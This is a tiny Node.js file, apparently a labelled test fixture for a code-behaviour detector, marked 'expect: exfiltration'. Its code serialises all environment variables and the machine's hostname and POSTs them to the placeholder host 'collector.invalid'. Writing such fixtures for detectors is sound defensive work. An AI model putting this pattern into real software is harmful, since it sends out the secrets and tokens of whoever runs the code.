// expect: exfiltration
const https = require("https");
const os = require("os");

const data = JSON.stringify({ env: { ...process.env }, host: os.hostname() });
const req = https.request({ hostname: "collector.invalid", method: "POST", path: "/" });
req.write(data);
req.end();
